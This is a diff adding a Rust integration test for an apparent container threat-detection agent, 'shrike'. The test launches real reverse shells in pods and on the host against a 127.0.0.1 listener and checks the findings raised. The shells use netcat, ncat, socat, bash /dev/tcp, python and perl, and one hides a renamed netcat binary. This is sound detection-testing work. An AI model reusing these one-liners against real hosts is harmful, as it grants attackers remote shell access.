@@ -1,0 +1,350 @@
+//! Privileged: real attacks with real tools in real CRI pods (and on the host) against listeners
+//! on 127.0.0.1, with `shrike run` watching. Each attack must raise exactly its categories and
+//! nothing else; benign look-alikes must raise nothing. Every finding produced here is also
+//! checked against the official SCC v2 `Finding` model.
+
+mod common;
+#[path = "common/containerd.rs"]
+mod containerd;
+#[path = "common/scc_model.rs"]
+mod scc_model;
+
+use std::{
+    collections::{BTreeMap, BTreeSet},
+    io::{BufRead, BufReader, Read, Write},
+    net::TcpListener,
+    path::Path,
+    process::{Child, Command, Stdio},
+    sync::{Arc, Mutex},
+    thread::JoinHandle,
+    time::{Duration, Instant},
+};
+
+use common::privileged;
+use containerd::{Containerd, PodSpec};
+use serde_json::Value;
+
+const SHRIKE: &str = env!("CARGO_BIN_EXE_shrike");
+
+const NETCAT: &str = "Execution: Netcat Remote Code Execution In Container";
+const SOCAT: &str = "Execution: Socat Reverse Shell Detected";
+const RCE: &str = "Execution: Possible Remote Command Execution Detected";
+const REVERSE_SHELL: &str = "Reverse Shell";
+const COMPILER: &str = "Defense Evasion: Launch Code Compiler Tool In Container";
+
+/// A listener on 127.0.0.1 that sends commands to whoever connects and collects the answer.
+struct Listener {
+    port: u16,
+    thread: JoinHandle<String>,
+}
+
+fn listen(commands: &'static str) -> Listener {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    l.set_nonblocking(true).unwrap();
+    let thread = std::thread::spawn(move || {
+        let deadline = Instant::now() + Duration::from_secs(if commands.is_empty() { 3 } else { 20 });
+        let (mut s, _) = loop {
+            match l.accept() {
+                Ok(c) => break c,
+                Err(_) if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(10)),
+                Err(_) => return String::from("<no connection>"),
+            }
+        };
+        s.set_nonblocking(false).unwrap();
+        s.set_read_timeout(Some(Duration::from_secs(4))).unwrap();
+        let _ = s.write_all(commands.as_bytes());
+        let mut out = Vec::new();
+        let mut buf = [0u8; 4096];
+        let end = Instant::now() + Duration::from_secs(6);
+        while Instant::now() < end {
+            match s.read(&mut buf) {
+                Ok(0) => break,
+                Ok(n) => {
+                    out.extend_from_slice(&buf[..n]);
+                    if String::from_utf8_lossy(&out).contains("uid=") {
+                        // Give the shell a moment to run `exit`, then hang up.
+                        let _ = s.set_read_timeout(Some(Duration::from_millis(500)));
+                    }
+                }
+                Err(_) => break,
+            }
+        }
+        String::from_utf8_lossy(&out).into_owned()
+    });
+    Listener { port, thread }
+}
+
+struct Agent {
+    child: Child,
+    findings: Arc<Mutex<Vec<Value>>>,
+    reader: JoinHandle<()>,
+    log: JoinHandle<String>,
+}
+
+fn start_agent(dir: &Path, name: &str, socket: &Path, host_scope: bool) -> Agent {
+    let rules = dir.join(format!("{name}-rules.toml"));
+    std::fs::write(&rules, format!("[scope]\nhost = {host_scope}\n[incidents]\nsettle_ms = 1500\ndedupe_window_s = 600\n")).unwrap();
+    let config = dir.join(format!("{name}.toml"));
+    std::fs::write(
+        &config,
+        format!(
+            "rules = \"{}\"\n[node]\nname = \"test-node\"\ncluster = \"c1\"\nproject = \"p1\"\nlocation = \"europe-west1\"\n[container]\nruntime_endpoint = \"{}\"\n",
+            rules.display(),
+            socket.display()
+        ),
+    )
+    .unwrap();
+    let mut child = Command::new(SHRIKE)
+        .args(["run", "--config"])
+        .arg(&config)
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .env("SHRIKE_LOG", std::env::var("SHRIKE_TEST_LOG").unwrap_or_else(|_| "info".into()))
+        .spawn()
+        .unwrap();
+    let mut stderr = BufReader::new(child.stderr.take().unwrap());
+    let deadline = Instant::now() + Duration::from_secs(30);
+    let mut line = String::new();
+    loop {
+        line.clear();
+        assert!(stderr.read_line(&mut line).unwrap() > 0, "shrike exited before ready");
+        if line.contains("shrike ready") {
+            break;
+        }
+        assert!(Instant::now() < deadline, "shrike not ready");
+    }
+    let log = std::thread::spawn(move || {
+        let mut rest = String::new();
+        let _ = stderr.read_to_string(&mut rest);
+        rest
+    });
+    let findings = Arc::new(Mutex::new(Vec::new()));
+    let sink = findings.clone();
+    let stdout = child.stdout.take().unwrap();
+    let reader = std::thread::spawn(move || {
+        for line in BufReader::new(stdout).lines() {
+            let line = line.unwrap();
+            let v: Value = serde_json::from_str(&line).unwrap_or_else(|e| panic!("stdout line is not JSON ({e}): {line}"));
+            sink.lock().unwrap().push(v);
+        }
+    });
+    Agent { child, findings, reader, log }
+}
+
+impl Agent {
+    fn stop(mut self) -> (Vec<Value>, String) {
+        // SAFETY: signalling the child we started, by its pid.
+        unsafe { libc::kill(self.child.id() as i32, libc::SIGINT) };
+        let status = self.child.wait().unwrap();
+        self.reader.join().unwrap();
+        let log = self.log.join().unwrap();
+        assert!(status.success(), "{log}");
+        let f = self.findings.lock().unwrap().clone();
+        (f, log)
+    }
+}
+
+fn categories(findings: &[&Value]) -> BTreeSet<String> {
+    findings.iter().map(|f| f["finding"]["category"].as_str().unwrap().to_string()).collect()
+}
+
+fn set(items: &[&str]) -> BTreeSet<String> {
+    items.iter().map(|s| s.to_string()).collect()
+}
+
+/// Attacks run inside pods: (pod name, command template with {P} for the port, listener
+/// commands, expected categories).
+fn container_cases() -> Vec<(&'static str, String, &'static str, BTreeSet<String>)> {
+    let rs = |tool: &str| set(&[tool, REVERSE_SHELL, RCE]);
+    vec![
+        ("nc-e", "nc.traditional -e /bin/sh 127.0.0.1 {P}".into(), "id; exit\n", rs(NETCAT)),
+        ("nc-nve", "nc.traditional -nve/bin/sh 127.0.0.1 {P}".into(), "id; exit\n", rs(NETCAT)),
+        ("nc-renamed", "cp /usr/bin/nc.traditional /tmp/kworker && /tmp/kworker -e /bin/sh 127.0.0.1 {P}".into(), "id; exit\n", rs(NETCAT)),
+        ("ncat-sh-exec", "ncat --sh-exec /bin/sh 127.0.0.1 {P}".into(), "id; exit\n", rs(NETCAT)),
+        ("busybox-nc", "busybox nc 127.0.0.1 {P} -e /bin/sh".into(), "id; exit\n", rs(NETCAT)),
+        (
+            "mkfifo-nc",
+            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc.openbsd 127.0.0.1 {P} > /tmp/f".into(),
+            "id; exit\n",
+            rs(NETCAT),
+        ),
+        ("socat-exec", "socat TCP:127.0.0.1:{P} EXEC:/bin/sh".into(), "id; exit\n", rs(SOCAT)),
+        ("socat-pty", "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:127.0.0.1:{P}".into(), "id; exit\n", rs(SOCAT)),
+        ("bash-dev-tcp", "bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{P} 0>&1'".into(), "id; exit\n", set(&[REVERSE_SHELL, RCE])),
+        (
+            "python-pty",
+            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",{P}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'".into(),
+            "id; exit\n",
+            set(&[REVERSE_SHELL, RCE]),
+        ),
+        (
+            "perl-socket",
+            "perl -e 'use Socket;$i=\"127.0.0.1\";$p={P};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'".into(),
+            "id; exit\n",
+            set(&[REVERSE_SHELL, RCE]),
+        ),
+        ("gcc", "printf 'int main(void){return 0;}' > /tmp/t.c && gcc /tmp/t.c -o /tmp/t && /tmp/t".into(), "", set(&[COMPILER])),
+        // Benign look-alikes.
+        ("nc-z", "nc -z 127.0.0.1 {P}; true".into(), "", set(&[])),
+        ("nc-host-e", "nc -w 1 host-e 8080; nc -w 1 app-engine 8080; nc -v -w 1 server-c 443; true".into(), "", set(&[])),
+        ("socat-forward", "timeout 1 socat TCP-LISTEN:0,reuseaddr,fork TCP:127.0.0.1:{P}; true".into(), "", set(&[])),
+        ("shell-pipes", "echo hello | cat | sh -c 'read x; echo $x' | wc -c; ls / | grep usr".into(), "", set(&[])),
+    ]
+}
+
+/// Host attacks: (name, command, listener commands, expected with host scope).
+fn host_cases() -> Vec<(&'static str, String, &'static str, BTreeSet<String>)> {
+    vec![
+        ("host-bash", "bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{P} 0>&1'".into(), "id; exit\n", set(&[REVERSE_SHELL, RCE])),
+        (
+            "host-python",
+            "/usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",{P}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'".into(),
+            "id; exit\n",
+            set(&[REVERSE_SHELL, RCE]),
+        ),
+        ("host-socat", "socat TCP:127.0.0.1:{P} EXEC:/bin/sh".into(), "id; exit\n", set(&[SOCAT, REVERSE_SHELL, RCE])),
+        ("host-nc", "nc.traditional -e /bin/sh 127.0.0.1 {P}".into(), "id; exit\n", set(&[REVERSE_SHELL, RCE])),
+        ("host-gcc", "printf 'int main(void){return 0;}' > {DIR}/t.c && gcc {DIR}/t.c -o {DIR}/t".into(), "", set(&[])),
+    ]
+}
+
+/// Run the host attacks, each from its own `sh -c` runner; returns runner pid → expected.
+fn run_host_attacks(dir: &Path) -> Vec<(&'static str, u32, BTreeSet<String>)> {
+    let mut out = Vec::new();
+    for (name, cmd, commands, expected) in host_cases() {
+        let l = listen(if commands.is_empty() { "" } else { commands });
+        let cmd = cmd.replace("{P}", &l.port.to_string()).replace("{DIR}", &dir.display().to_string());
+        let mut child = Command::new("/bin/sh").args(["-c", &cmd]).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
+        let pid = child.id();
+        let got = l.thread.join().unwrap();
+        if !commands.is_empty() {
+            assert!(got.contains("uid="), "{name}: the listener got {got:?}");
+        }
+        let deadline = Instant::now() + Duration::from_secs(10);
+        while child.try_wait().unwrap().is_none() && Instant::now() < deadline {
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        let _ = child.kill();
+        let _ = child.wait();
+        out.push((name, pid, expected));
+    }
+    out
+}
+
+fn belongs_to_runner(f: &Value, runner: u32) -> bool {
+    let in_ancestry = f["finding"]["sourceProperties"]["Process_Ancestry"]
+        .as_array()
+        .is_some_and(|a| a.iter().any(|x| x["pid"].as_u64() == Some(u64::from(runner))));
+    let in_processes = f["finding"]["processes"]
+        .as_array()
+        .is_some_and(|a| a.iter().any(|p| p["pid"].as_str() == Some(runner.to_string().as_str())));
+    in_ancestry || in_processes
+}
+
+#[tokio::test(flavor = "current_thread")]
+async fn real_attacks_raise_exactly_their_categories() {
+    if !privileged("real_attacks_raise_exactly_their_categories") {
+        return;
+    }
+    let ctrd = Containerd::start();
+    let dir = ctrd.dir.join("attacks");
+    std::fs::create_dir_all(&dir).unwrap();
+
+    // Container attacks and look-alikes, plus host attacks with the default (container) scope.
+    let agent = start_agent(&dir, "default", &ctrd.socket, false);
+    let mut pods = Vec::new();
+    let mut expected: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
+    for (name, cmd, commands, want) in container_cases() {
+        let l = listen(commands);
+        let cmd = cmd.replace("{P}", &l.port.to_string());
+        let pod = ctrd.run_pod(&PodSpec::new(name, &["/bin/sh", "-c", &cmd])).await;
+        let got = l.thread.join().unwrap();
+        if !commands.is_empty() {
+            assert!(got.contains("uid="), "{name}: the attack did not really work; listener got {got:?}");
+        }
+        expected.insert(pod.spec.name.clone(), want);
+        pods.push(pod);
+    }
+    let host_default = run_host_attacks(&dir);
+    let (findings, log) = agent.stop();
+
+    let mut by_pod: BTreeMap<String, Vec<&Value>> = BTreeMap::new();
+    for f in &findings {
+        scc_model::assert_valid_finding(f);
+        let pod = f["finding"]["sourceProperties"]["Pod_Name"].as_str().unwrap_or("<host>").to_string();
+        by_pod.entry(pod).or_default().push(f);
+    }
+    let mut failures = Vec::new();
+    for (pod, want) in &expected {
+        let got = categories(by_pod.get(pod).map(Vec::as_slice).unwrap_or(&[]));
+        if &got != want {
+            failures.push(format!("{pod}: expected {want:?}, got {got:?}"));
+        }
+        // Each category at most once per incident: one finding per category per pod here.
+        let n = by_pod.get(pod).map(Vec::len).unwrap_or(0);
+        if n != got.len() {
+            failures.push(format!("{pod}: {n} findings for {} categories", got.len()));
+        }
+    }
+    for (name, runner, _) in &host_default {
+        let got: Vec<&Value> = findings.iter().filter(|f| belongs_to_runner(f, *runner)).collect();
+        if !got.is_empty() {
+            failures.push(format!("{name}: host attack raised {:?} with the default container scope", categories(&got)));
+        }
+    }
+    assert!(by_pod.get("<host>").is_none_or(|v| v.is_empty()), "no host findings by default: {:?}", by_pod.get("<host>"));
+    assert!(failures.is_empty(), "{}\n\nlog:\n{log}", failures.join("\n"));
+
+    // Evidence in the findings, field by field, for a few.
+    let rs = by_pod["nc-e"].iter().find(|f| f["finding"]["category"] == REVERSE_SHELL).unwrap();
+    let sp = &rs["finding"]["sourceProperties"];
+    assert_eq!(sp["Reverse_Shell_Stdin_Redirection_Dst_Ip"], "127.0.0.1");
+    assert_eq!(rs["finding"]["severity"], "CRITICAL");
+    assert_eq!(rs["finding"]["indicator"]["ipAddresses"][0], "127.0.0.1");
+    assert_eq!(rs["finding"]["kubernetes"]["pods"][0]["name"], "nc-e");
+    assert_eq!(rs["finding"]["kubernetes"]["nodes"][0]["name"], "test-node");
+    assert_eq!(rs["finding"]["resourceName"], "//container.googleapis.com/projects/p1/locations/europe-west1/clusters/c1");
+    let nc = by_pod["nc-renamed"].iter().find(|f| f["finding"]["category"] == NETCAT).unwrap();
+    assert_eq!(nc["finding"]["processes"][0]["binary"]["path"], "/tmp/kworker", "the renamed copy is named as it ran");
+    assert_eq!(nc["finding"]["severity"], "LOW");
+    let rce = by_pod["bash-dev-tcp"].iter().find(|f| f["finding"]["category"] == RCE).unwrap();
+    let commands = rce["finding"]["sourceProperties"]["Commands"].as_array().unwrap();
+    assert!(commands.iter().any(|c| c.as_str().is_some_and(|c| c == "id")), "the commands run are listed: {commands:?}");
+    let gcc = &by_pod["gcc"][0];
+    assert_eq!(gcc["finding"]["mitreAttack"]["primaryTactic"], "DEFENSE_EVASION");
+    assert!(gcc["finding"]["processes"][0]["binary"]["sha256"].as_str().is_some_and(|s| s.len() == 64));
+
+    // Host scope on: the host attacks are caught, gcc on the host still is not.
+    let agent = start_agent(&dir, "host", &ctrd.socket, true);
+    let host = run_host_attacks(&dir);
+    let (findings, log) = agent.stop();
+    let mut failures = Vec::new();
+    for f in &findings {
+        scc_model::assert_valid_finding(f);
+    }
+    for (name, runner, want) in &host {
+        let got: Vec<&Value> = findings.iter().filter(|f| belongs_to_runner(f, *runner)).collect();
+        let cats = categories(&got);
+        if &cats != want {
+            failures.push(format!("{name}: expected {want:?}, got {cats:?}"));
+        }
+        if got.len() != cats.len() {
+            let brief: Vec<String> = got
+                .iter()
+                .map(|f| format!("{} {}", f["finding"]["category"], f["finding"]["sourceProperties"]["Summary"]))
+                .collect();
+            failures.push(format!("{name}: {} findings for {} categories: {brief:#?}", got.len(), cats.len()));
+        }
+        for f in &got {
+            assert_eq!(f["resource"]["type"], "google.container.Cluster");
+            assert!(f["finding"]["sourceProperties"].get("Pod_Name").is_none());
+        }
+    }
+    assert!(failures.is_empty(), "{}\n\nlog:\n{log}", failures.join("\n"));
+
+    for pod in &pods {
+        ctrd.remove_pod(pod).await;
+    }
+    ctrd.stop();
+}
